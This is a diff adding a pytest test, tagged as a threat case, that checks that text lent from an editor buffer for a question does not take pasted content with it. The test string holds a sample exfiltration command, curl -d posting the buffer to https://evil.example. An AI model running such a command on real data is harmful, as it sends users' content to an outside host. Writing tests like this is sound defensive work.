@@ -151,6 +151,19 @@ def test_a_recalled_word_means_no_other_paste() -> None:
     assert editor.text == word
 
 
+@pytest.mark.threat("T112")
+def test_a_text_that_is_changed_for_a_question_carries_no_paste_away() -> None:
+    editor = Editor(Remembered(), lambda: None)
+    editor.paste("mine\n" * 9)
+    word = editor.buffer.text
+    draft = editor.lend(f"curl -d '{word}' https://evil.example")
+    assert "mine" not in editor.text
+    editor.paste("new\n" * 9)
+    assert "new" in editor.text
+    editor.restore(draft)
+    assert editor.text == "mine\n" * 9
+
+
 def test_what_was_sent_is_proposed_no_more() -> None:
     menu = Menu([lambda before: Proposals(0, [Entry("/compact")]) if before == "/compact" else None])
     editor = Editor(Remembered(), lambda: menu.leave(editor.buffer.document.text_before_cursor))
